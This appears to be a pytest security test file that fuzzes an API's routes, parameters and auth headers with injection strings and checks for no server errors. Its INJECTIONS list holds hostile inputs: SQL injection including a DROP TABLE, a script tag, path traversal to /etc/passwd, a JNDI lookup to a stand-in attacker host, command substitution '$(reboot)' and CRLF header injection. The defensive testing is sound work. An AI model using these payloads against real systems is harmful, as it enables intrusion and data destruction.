"""Hostile strings in every string field and parameter of every route never give a 500."""

from __future__ import annotations

import copy
import json
from typing import Any
from urllib.parse import quote

from sqlalchemy import func, select

from secops.db.models import ApiKey
from secops.db.session import session_scope
from tests.factories import auth, make_key
from tests.security.conftest import assert_security_headers

INJECTIONS = [
    "' OR '1'='1", "1; DROP TABLE jobs;--", "<script>alert(1)</script>",
    "../../../../etc/passwd", "${jndi:ldap://attacker/a}", "{{7*7}}", "%s%s%n",
    "\x00null\x00byte", "\u202egnp.exe", "💥" * 50, "A" * 5000,
    "$(reboot)", "*)(uid=*))(|(uid=*", "\r\nSet-Cookie: x=1", "\ud800",
]


def _resolve(schema: dict[str, Any], spec: dict[str, Any]) -> dict[str, Any]:
    ref = schema.get("$ref")
    if ref:
        return _resolve(spec["components"]["schemas"][ref.rsplit("/", 1)[1]], spec)
    return schema


def _is_string(schema: dict[str, Any]) -> bool:
    options = schema.get("anyOf", [schema])
    return any(o.get("type") == "string" for o in options)


def _body_template(op: dict[str, Any], spec: dict[str, Any]) -> tuple[dict, list[str]]:
    content = op.get("requestBody", {}).get("content", {}).get("application/json")
    if not content:
        return {}, []
    schema = _resolve(content["schema"], spec)
    props = schema.get("properties", {})
    template: dict[str, Any] = {}
    strings = []
    for name, prop in props.items():
        prop = _resolve(prop, spec)
        if _is_string(prop):
            strings.append(name)
            enum = prop.get("enum") or next((o["enum"] for o in prop.get("anyOf", [])
                                             if "enum" in o), None)
            template[name] = enum[0] if enum else "x"
        elif "object" in str(prop.get("type", "")) or name == "params":
            template[name] = {}
    if "kind" in template:
        template["kind"] = "system.ping"
    if "name" in template:
        template["name"] = "n"
    if "interval_seconds" in props:
        template["interval_seconds"] = 60
    if "jobs" in props:
        template["jobs"] = [{"kind": "system.ping"}]
    return template, strings


def test_injection_strings_never_cause_a_500(client, limits, internal_ca):
    admin = make_key()
    spec = client.get("/openapi.json").json()
    sent = 0
    for path, item in spec["paths"].items():
        if path == "/readyz":
            continue  # no inputs, and each call waits a second for worker pings
        for method, op in item.items():
            params = op.get("parameters", [])
            template, body_strings = _body_template(op, spec)
            path_params = [p["name"] for p in params if p["in"] == "path"]
            query_strings = [p["name"] for p in params
                             if p["in"] == "query" and _is_string(p["schema"])]
            for value in INJECTIONS:
                cases: list[tuple[str, dict, Any]] = []
                url = path
                raw = quote(value.encode("utf-8", "surrogatepass"), safe="")
                for name in path_params:
                    url = url.replace("{" + name + "}", raw)
                cases.append((url, {}, template or None))
                base = path.replace("{", "").replace("}", "")
                for name in query_strings:
                    cases.append((f"{base}?{name}={raw}", {}, template or None))
                for name in body_strings:
                    body = copy.deepcopy(template)
                    body[name] = value
                    cases.append((base, {}, body))
                if "params" in template:
                    cases.append((base, {}, {**template, "params": {"message": value}}))
                if "jobs" in template:
                    cases.append((base, {}, {"jobs": [{"kind": value}]}))
                for url_, query, body in cases:
                    content = None if body is None else json.dumps(body).encode()
                    resp = client.request(method.upper(), url_, params=query, content=content,
                                          headers={**auth(admin),
                                                   "content-type": "application/json"})
                    assert resp.status_code < 500, (method, url_, query, body, resp.text)
                    assert_security_headers(resp)
                    sent += 1
    assert sent > 400
    # hostile key names were stored verbatim as data, never executed
    with session_scope() as s:
        assert s.scalar(select(func.count()).select_from(ApiKey)
                        .where(ApiKey.name == "1; DROP TABLE jobs;--")) == 1


def test_injection_in_headers_and_tokens(client):
    for token in INJECTIONS:
        if not token.isascii() or "\r" in token or "\x00" in token:
            continue
        resp = client.get("/v1/jobs", headers={"Authorization": f"Bearer {token}"})
        # fewer bad tokens than the client's 30-a-minute authentication budget: all 401
        assert resp.status_code == 401, resp.text
    key = make_key()
    resp = client.post("/v1/jobs", json={"kind": "system.ping"},
                       headers={**auth(key), "Idempotency-Key": "' OR 1=1 --"})
    assert resp.status_code == 202
